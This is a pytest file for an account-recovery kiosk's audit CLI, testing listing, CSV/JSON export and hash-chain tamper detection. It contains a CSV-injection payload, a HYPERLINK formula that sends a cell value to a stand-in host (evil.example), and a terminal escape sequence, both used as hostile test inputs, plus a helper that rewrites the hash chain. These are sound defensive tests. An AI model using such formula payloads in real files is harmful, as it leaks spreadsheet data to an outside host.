"""`kiosk audit list|export|verify` on a database the real backend wrote (embedded directory, demo users).

The backend runs real recoveries over HTTP (emma resets, nora is refused, luke unlocks, a wrong
CAPTCHA) on a manual clock, into a database file named by the policy. Tamper tests change that file
with plain SQL, as someone with write access to it could, and `verify` must say what and where.

Live directories: tests/services/backend/directories/test_live_audit.py.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import re
import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from kiosk.cli.audit_cmd import EVENTS, safe_cell
from kiosk.cli.main import main as cli_main
from kiosk.policy.loader import load_policy
from kiosk.services.backend import Backend, ManualClock
from kiosk.services.backend.audit.log import AuditEvent

RESOURCES = Path(__file__).resolve().parents[2] / "resources"
START = datetime(2025, 3, 3, 9, 0, 0, tzinfo=UTC)
NEW_PASSWORD = "Lantern-Orbit-Meadow-42"
HOSTILE_USER = '=HYPERLINK("https://evil.example/?x="&A1,"open")'


def policy_file(directory: Path, database: Path | None, extra: str = "") -> Path:
    """The demo policy, keeping its store (and audit trail) in `database`."""
    text = (RESOURCES / "demo-policy.toml").read_text(encoding="utf-8")
    if database is not None:
        line = "seed_demo_users = true\n"
        assert text.count(line) == 1
        text = text.replace(line, f"{line}database = {json.dumps(str(database))}\n")
    path = directory / "policy.toml"
    path.write_text(text + extra, encoding="utf-8")
    return path


class Session:
    """One reset session over HTTP against the backend (the CAPTCHA solved through the test hook)."""

    def __init__(self, backend: Backend, http: httpx.AsyncClient) -> None:
        self.backend = backend
        self.http = http
        self.headers: dict[str, str] = {}

    async def post(self, path: str, body: object, status: int = 200) -> httpx.Response:
        response = await self.http.post(f"/v1{path}", json=body, headers=self.headers)
        assert response.status_code == status, response.text
        return response

    async def identify(self, user_id: str, *, wrong_captcha_first: bool = False) -> None:
        opened = await self.post("/sessions", {"kiosk_id": "lobby-1", "locale": "en"}, status=201)
        self.headers = {"Authorization": f"Bearer {opened.json()['token']}"}
        if wrong_captcha_first:
            await self.post("/session/identify", {"user_id": user_id, "captcha": "x"}, status=400)
        captcha = await self.backend.captcha_text_for_test(self.headers["Authorization"][7:])
        await self.post("/session/identify", {"user_id": user_id, "captcha": captcha})

    async def pass_email(self, status: int = 200) -> httpx.Response:
        await self.post("/session/method", {"method": "email"})
        body = (await self.backend.outbox())[-1].body
        match = re.search(r"\b(\d{6,10})\b", body)
        assert match, body
        return await self.post("/session/code", {"code": match.group(1)}, status=status)


async def write_audit_trail(policy_path: Path, database: Path) -> None:
    """Real recoveries, each on its own day at 09:00 UTC, into `database`."""
    clock = ManualClock(START)
    backend = await Backend.open(load_policy(policy_path), clock=clock, kiosk_id="backend-1")
    try:
        transport = httpx.ASGITransport(app=backend.asgi)
        async with httpx.AsyncClient(transport=transport, base_url="http://kiosk") as http:
            session = Session(backend, http)
            await session.identify("emma", wrong_captcha_first=True)  # 2025-03-03
            await session.pass_email()
            await session.post("/session/password", {"password": NEW_PASSWORD})
            clock.advance(86400)
            await session.identify("nora")  # 2025-03-04: refused once she proved the account is hers
            await session.pass_email()
            clock.advance(86400)
            await backend.directory.set_locked("luke", True)
            await session.identify("luke")  # 2025-03-05
            await session.pass_email()
            await session.post("/session/action", {"action": "unlock"})
        # Rows the directory could make: outcomes with a reason, a hostile login, a terminal escape.
        audit = backend._rt.audit
        await audit.record(
            AuditEvent.CODE_SENT, kiosk_id="lobby-2", reference="AAAA-BBBB", outcome="delivery_failed:timeout"
        )
        await audit.record(AuditEvent.IDENTIFIED, kiosk_id="lobby-2", reference="AAAA-BBBB", user_id=HOSTILE_USER)
        await audit.record(AuditEvent.IDENTIFIED, kiosk_id="lobby-2", reference="AAAA-CCCC", user_id="eve\x1b[2J")
    finally:
        await backend.close()


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """(policy file, database) with the audit trail of the recoveries above; tests work on copies."""
    directory = tmp_path_factory.mktemp("audit")
    database = directory / "backend.sqlite3"
    policy = policy_file(directory, database)
    asyncio.run(write_audit_trail(policy, database))
    return policy, database


@pytest.fixture
def trail(original: tuple[Path, Path], tmp_path: Path) -> Iterator[tuple[Path, Path]]:
    """A private copy of the policy and database (so a test may tamper with it)."""
    database = tmp_path / "backend.sqlite3"
    shutil.copyfile(original[1], database)
    yield policy_file(tmp_path, database), database


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli_main(["audit", *argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def rows(database: Path) -> list[sqlite3.Row]:
    with closing(sqlite3.connect(database)) as db:
        db.row_factory = sqlite3.Row
        return db.execute("SELECT * FROM audit ORDER BY id").fetchall()


def tamper(database: Path, statement: str, *values: object) -> None:
    """Change the file with plain SQL, as anyone with write access to it could."""
    with closing(sqlite3.connect(database)) as db:
        db.execute(statement, values)
        db.commit()


def table_rows(out: str) -> list[list[str]]:
    """The data lines of `list` (header and footer dropped), split into columns."""
    lines = out.splitlines()
    assert lines[0].split() == ["ID", "TIME", "EVENT", "OUTCOME", "USER", "KIOSK", "REFERENCE"]
    assert lines[-1].startswith("(")
    return [line.split() for line in lines[1:-1]]


# ---------------------------------------------------------------------------------------------- list


def test_list_shows_every_event_oldest_first(trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    policy, database = trail
    code, out, err = run(capsys, "list", "--policy", str(policy))
    assert (code, err) == (0, "")
    listed = table_rows(out)
    stored = rows(database)
    assert [int(row[0]) for row in listed] == [row["id"] for row in stored]
    assert out.splitlines()[-1] == f"({len(stored)} events)"
    first = listed[0]
    assert first[1:3] == ["2025-03-03T09:00:00+00:00", "session_opened"]
    assert ["captcha_failed", "identified", "reset"] == [
        r[2] for r in listed if r[2] in ("captcha_failed", "identified", "reset")
    ][:3]


def test_list_filters_by_user_event_outcome_kiosk_and_reference(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    policy, database = trail
    _, out, _ = run(capsys, "list", "--policy", str(policy), "--user", "EMMA")
    assert {row[4] for row in table_rows(out)} == {"emma"}
    assert "reset" in {row[2] for row in table_rows(out)}

    _, out, _ = run(capsys, "list", "--policy", str(policy), "--event", "refused")
    assert [(row[3], row[4]) for row in table_rows(out)] == [("not_enabled", "nora")]

    _, out, _ = run(capsys, "list", "--policy", str(policy), "--outcome", "delivery_failed")
    assert [row[3] for row in table_rows(out)] == ["delivery_failed:timeout"]  # the code before ':' matches
    _, out, _ = run(capsys, "list", "--policy", str(policy), "--outcome", "delivery")
    assert out == "no audit events match\n"  # but not any prefix

    _, out, _ = run(capsys, "list", "--policy", str(policy), "--kiosk", "lobby-2")
    assert len(table_rows(out)) == 3
    luke = next(row for row in rows(database) if row["user_id"] == "luke")
    _, out, _ = run(capsys, "list", "--policy", str(policy), "--reference", luke["reference"].lower())
    listed = table_rows(out)
    assert {row[6] for row in listed} == {luke["reference"]} and "unlocked" in {row[2] for row in listed}


def test_list_filters_by_time_with_dates_and_timezones(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    policy, _ = trail
    _, out, _ = run(
        capsys, "list", "--policy", str(policy), "--since", "2025-03-04T00:00:00Z", "--until", "2025-03-04T23:59:59Z"
    )
    assert {row[4] for row in table_rows(out) if row[4] != "-"} == {"nora"}
    # 10:00 in UTC+01:00 is 09:00 UTC: the moment nora's session opened, included.
    _, out, _ = run(
        capsys, "list", "--policy", str(policy), "--since", "2025-03-04T10:00:00+01:00", "--event", "session_opened"
    )
    assert table_rows(out)[0][1] == "2025-03-04T09:00:00+00:00"
    # A date alone is midnight to midnight on this computer's clock; the day after the last event: nothing.
    _, out, _ = run(capsys, "list", "--policy", str(policy), "--since", "2025-03-07")
    assert out == "no audit events match\n"
    _, out, _ = run(capsys, "list", "--policy", str(policy), "--until", "2025-03-01")
    assert out == "no audit events match\n"


def test_list_limit_keeps_the_newest(trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    policy, database = trail
    _, out, _ = run(capsys, "list", "--policy", str(policy), "--limit", "2")
    stored = rows(database)
    assert [int(row[0]) for row in table_rows(out)] == [stored[-2]["id"], stored[-1]["id"]]
    assert out.splitlines()[-1] == f"(the newest 2 of {len(stored)} matching events; --limit N shows more)"


def test_list_never_lets_a_value_drive_the_terminal(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    policy, _ = trail
    _, out, _ = run(capsys, "list", "--policy", str(policy), "--kiosk", "lobby-2")
    assert "\x1b" not in out
    assert "eve\\x1b[2J" in out


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (["--since", "2025-03-03T09:00"], "--since: '2025-03-03T09:00' has no timezone: add Z for UTC or an offset"),
        (["--until", "yesterday"], "--until: 'yesterday' is not an ISO 8601 date or time"),
        (["--since", "2025-03-05", "--until", "2025-03-04"], "--since (2025-03-05) is after --until (2025-03-04)"),
        (["--since", "2025-02-30"], "--since: '2025-02-30' is not an ISO 8601 date or time"),
    ],
)
def test_bad_times_are_a_clear_error_exit_2(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str], options: list[str], message: str
) -> None:
    code, out, err = run(capsys, "list", "--policy", str(trail[0]), *options)
    assert (code, out) == (2, "")
    assert err.startswith("kiosk audit list: ") and message in err


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (["--limit", "0"], "--limit: must be 1 or more, got 0"),
        (["--limit", "ten"], "--limit: must be a whole number of events, got 'ten'"),
        (["--event", "hacked"], "--event: invalid choice: 'hacked'"),
    ],
)
def test_bad_options_exit_2(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str], options: list[str], words: str
) -> None:
    with pytest.raises(SystemExit) as raised:
        cli_main(["audit", "list", "--policy", str(trail[0]), *options])
    assert raised.value.code == 2
    assert words in capsys.readouterr().err


def test_event_choices_are_the_audited_events() -> None:
    assert EVENTS == [event.value for event in AuditEvent]


# -------------------------------------------------------------------------------------------- export


def test_export_csv_has_every_column_and_the_chain(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    policy, database = trail
    code, out, _ = run(capsys, "export", "--policy", str(policy), "--format", "csv", "--user", "emma")
    assert code == 0
    exported = list(csv.DictReader(io.StringIO(out)))
    stored = [row for row in rows(database) if row["user_id"] == "emma"]
    assert list(exported[0]) == [
        "id",
        "at",
        "kiosk_id",
        "reference",
        "user_id",
        "event",
        "outcome",
        "correlation_id",
        "prev_hash",
        "hash",
    ]
    assert [int(row["id"]) for row in exported] == [row["id"] for row in stored]
    assert [row["hash"] for row in exported] == [row["hash"] for row in stored]
    assert all(re.fullmatch(r"[0-9a-f]{64}", row["prev_hash"]) for row in exported)


def test_export_csv_cannot_smuggle_a_formula_into_a_spreadsheet(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    _, out, _ = run(capsys, "export", "--policy", str(trail[0]), "--format", "csv", "--kiosk", "lobby-2")
    users = [row["user_id"] for row in csv.DictReader(io.StringIO(out))]
    assert f"'{HOSTILE_USER}" in users
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(out)) for cell in row)
    assert [safe_cell(value) for value in ("+1", "-1", "@x", "\tx", "ok", "'x")] == [
        "'+1",
        "'-1",
        "'@x",
        "'\tx",
        "ok",
        "'x",
    ]


def test_export_json_to_a_file(trail: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy, database = trail
    target = tmp_path / "out" / "audit.json"
    target.parent.mkdir()
    code, out, err = run(
        capsys, "export", "--policy", str(policy), "--format", "json", "--out", str(target), "--event", "reset"
    )
    assert (code, out) == (0, "")
    assert err == f"wrote 1 events to {target}\n"
    exported = json.loads(target.read_text(encoding="utf-8"))
    reset = next(dict(row) for row in rows(database) if row["event"] == "reset")
    assert exported == [reset]  # every column, exactly as stored (JSON needs no formula guard)


def test_export_csv_file_gets_a_byte_order_mark_for_excel(
    trail: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "audit.csv"
    assert run(capsys, "export", "--policy", str(trail[0]), "--out", str(target))[0] == 0
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,at,") and b"\r\n" in data
    unwritable = tmp_path / "missing-folder" / "audit.csv"
    code, _, err = run(capsys, "export", "--policy", str(trail[0]), "--out", str(unwritable))
    assert code == 2 and f"--out: cannot write {unwritable}" in err


# -------------------------------------------------------------------------------------------- verify


def test_verify_intact_chain_prints_the_head(trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    policy, database = trail
    stored = rows(database)
    code, out, err = run(capsys, "verify", "--policy", str(policy))
    assert (code, err) == (0, "")
    assert out == f"OK: {len(stored)} events, chain intact, head {stored[-1]['hash']}\n"


def test_verify_with_a_recorded_head_that_is_still_there(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    policy, database = trail
    stored = rows(database)
    code, out, _ = run(capsys, "verify", "--policy", str(policy), "--expect-head", stored[4]["hash"].upper())
    assert code == 0
    assert (
        out.splitlines()[1]
        == f"the recorded head is id 5, still in the chain; {len(stored) - 5} event(s) were written after it"
    )


def at(database: Path, row_id: int) -> str:
    return next(str(row["at"]) for row in rows(database) if row["id"] == row_id)


def test_verify_finds_an_edited_outcome(trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    policy, database = trail
    refused = next(row for row in rows(database) if row["event"] == "refused")
    tamper(database, "UPDATE audit SET outcome = 'ok' WHERE id = ?", refused["id"])
    code, out, _ = run(capsys, "verify", "--policy", str(policy))
    assert code == 1
    assert out == (
        f"FAILED: edited at id {refused['id']} ({refused['at']}): its contents no longer match its hash "
        "(changed after it was written)\n"
    )


def test_verify_finds_a_deleted_row(trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    policy, database = trail
    tamper(database, "DELETE FROM audit WHERE id = 4")
    code, out, _ = run(capsys, "verify", "--policy", str(policy))
    assert code == 1
    assert out == f"FAILED: deleted at id 5 ({at(database, 5)}): the row(s) before it were deleted (id 4 missing)\n"


def test_verify_finds_swapped_rows(trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    policy, database = trail
    for statement in ("UPDATE audit SET id = -1 WHERE id = 6", "UPDATE audit SET id = 6 WHERE id = 7"):
        tamper(database, statement)
    tamper(database, "UPDATE audit SET id = 7 WHERE id = -1")
    code, out, _ = run(capsys, "verify", "--policy", str(policy))
    assert code == 1
    assert out == (
        f"FAILED: reordered at id 6 ({at(database, 6)}): it was written after the row now at id 7, which comes later\n"
    )


def test_verify_finds_a_row_inserted_without_a_hash(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    policy, database = trail
    tamper(
        database,
        "INSERT INTO audit (at, kiosk_id, reference, user_id, event, outcome, correlation_id) "
        "VALUES ('2025-03-06T09:00:00+00:00', 'lobby-1', 'ZZZZ-ZZZZ', 'emma', 'reset', 'ok', '')",
    )
    new_id = rows(database)[-1]["id"]
    code, out, _ = run(capsys, "verify", "--policy", str(policy))
    assert code == 1
    assert out.startswith(f"FAILED: inserted at id {new_id} (2025-03-06T09:00:00+00:00): it has no hash")


def test_verify_finds_rows_deleted_from_the_end(trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    policy, database = trail
    last = rows(database)[-1]["id"]
    tamper(database, "DELETE FROM audit WHERE id >= ?", last - 1)
    code, out, _ = run(capsys, "verify", "--policy", str(policy))
    assert code == 1
    assert out == (
        f"FAILED: truncated at id {last - 1}: ids {last - 1}-{last} were written and then deleted from the end "
        "of the log\n"
    )


def rewrite_chain_from(database: Path, row_id: int) -> None:
    """What someone with write access and this source code can do: edit a row and recompute every later hash."""
    with closing(sqlite3.connect(database)) as db:
        db.row_factory = sqlite3.Row
        db.execute("UPDATE audit SET outcome = 'ok' WHERE id = ?", (row_id,))
        previous = db.execute("SELECT hash FROM audit WHERE id = ?", (row_id - 1,)).fetchone()["hash"]
        for row in db.execute("SELECT * FROM audit WHERE id >= ? ORDER BY id", (row_id,)).fetchall():
            data = b""
            values = [
                row[name] for name in ("at", "kiosk_id", "reference", "user_id", "event", "outcome", "correlation_id")
            ]
            for value in ["kiosk-audit-chain-v1", *values, previous]:
                raw = value.encode()
                data += b"%d:%s," % (len(raw), raw)
            digest = hashlib.sha256(data).hexdigest()
            db.execute("UPDATE audit SET prev_hash = ?, hash = ? WHERE id = ?", (previous, digest, row["id"]))
            previous = digest
        db.commit()


def test_a_rewritten_chain_is_caught_only_by_a_recorded_head(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """The limit of a keyless chain, and its mitigation: the head an administrator wrote down."""
    policy, database = trail
    recorded_head = rows(database)[-1]["hash"]
    refused = next(row for row in rows(database) if row["event"] == "refused")
    rewrite_chain_from(database, refused["id"])
    code, out, _ = run(capsys, "verify", "--policy", str(policy))
    assert code == 0 and out.startswith("OK: ")  # a full rewrite passes the chain check alone ...
    code, out, _ = run(capsys, "verify", "--policy", str(policy), "--expect-head", recorded_head)
    assert code == 1  # ... but not the head recorded before
    assert out == (
        f"FAILED: head_missing at id {rows(database)[-1]['id']}: the recorded head {recorded_head} is not in the "
        "chain: rows up to it were rewritten or deleted\n"
    )


def test_verify_refuses_a_malformed_expected_head(trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run(capsys, "verify", "--policy", str(trail[0]), "--expect-head", "abc")
    assert code == 2 and "--expect-head: 'abc' is not a head hash (64 hexadecimal digits)" in err


# ------------------------------------------------------------------------------ where the data lives


def test_no_configured_database_says_the_audit_is_not_kept(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy = policy_file(tmp_path, None)
    for action in ("list", "export", "verify"):
        code, out, err = run(capsys, action, "--policy", str(policy))
        assert (code, out) == (2, "")
        assert err.startswith(
            f"kiosk audit {action}: {policy} keeps no audit trail to read: directory.embedded.database is empty"
        )
        assert 'database = "C:/ProgramData/Contoso/AccountRecoveryKiosk/backend.sqlite3"' in err


def test_a_shared_backend_policy_points_at_the_server(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy = policy_file(tmp_path, None)
    text = policy.read_text(encoding="utf-8").replace(
        'mode = "embedded"', 'mode = "shared"\nurl = "https://kiosk-backend.contoso.example"'
    )
    policy.write_text(text, encoding="utf-8")
    code, _, err = run(capsys, "list", "--policy", str(policy))
    assert code == 2
    assert (
        "This policy uses the shared backend https://kiosk-backend.contoso.example: its audit trail is on that server"
        in err
    )


def test_an_invalid_policy_is_exit_2_not_a_broken_chain(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy = tmp_path / "bad.toml"
    policy.write_text("[methods]\nrequired = 3\n", encoding="utf-8")
    code, _, err = run(capsys, "verify", "--policy", str(policy))
    assert code == 2
    assert "methods.required" in err and f"kiosk audit verify: {policy} is not a valid policy (see above)" in err


def test_missing_and_foreign_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "nowhere.sqlite3"
    code, _, err = run(capsys, "verify", "--database", str(missing))
    assert code == 2 and f"no database at {missing} (the backend creates it when it first starts)" in err
    text = tmp_path / "notes.sqlite3"
    text.write_text("not a database, just notes\n" * 100, encoding="utf-8")
    code, _, err = run(capsys, "list", "--database", str(text))
    assert code == 2 and f"{text} is not an SQLite database" in err
    other = tmp_path / "other.sqlite3"
    with closing(sqlite3.connect(other)) as db:
        db.execute("CREATE TABLE things (a)")
    code, _, err = run(capsys, "export", "--database", str(other))
    assert code == 2 and f"{other} is not a kiosk backend database (it has no audit table)" in err


def test_reading_changes_nothing_in_the_database(trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    policy, database = trail
    before = hashlib.sha256(database.read_bytes()).hexdigest()
    for argv in (["list"], ["export", "--format", "json"], ["verify"]):
        assert run(capsys, *argv, "--policy", str(policy))[0] == 0
    assert hashlib.sha256(database.read_bytes()).hexdigest() == before


async def test_a_running_backend_is_read_while_it_writes(
    trail: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """A live (shared) backend keeps the database open and writing; list and verify read a consistent snapshot."""
    policy, database = trail
    backend = await Backend.open(
        load_policy(policy), clock=ManualClock(START + timedelta(days=5)), kiosk_id="backend-1"
    )
    try:
        await backend._rt.audit.record(AuditEvent.SESSION_OPENED, kiosk_id="lobby-9", reference="LIVE-0001")
        code, out, _ = run(capsys, "verify", "--policy", str(policy))
        assert code == 0 and out.startswith(f"OK: {len(rows(database))} events")
        await backend._rt.audit.record(AuditEvent.SESSION_OPENED, kiosk_id="lobby-9", reference="LIVE-0002")
        _, out, _ = run(capsys, "list", "--policy", str(policy), "--kiosk", "lobby-9")
        assert [row[6] for row in table_rows(out)] == ["LIVE-0001", "LIVE-0002"]
    finally:
        await backend.close()
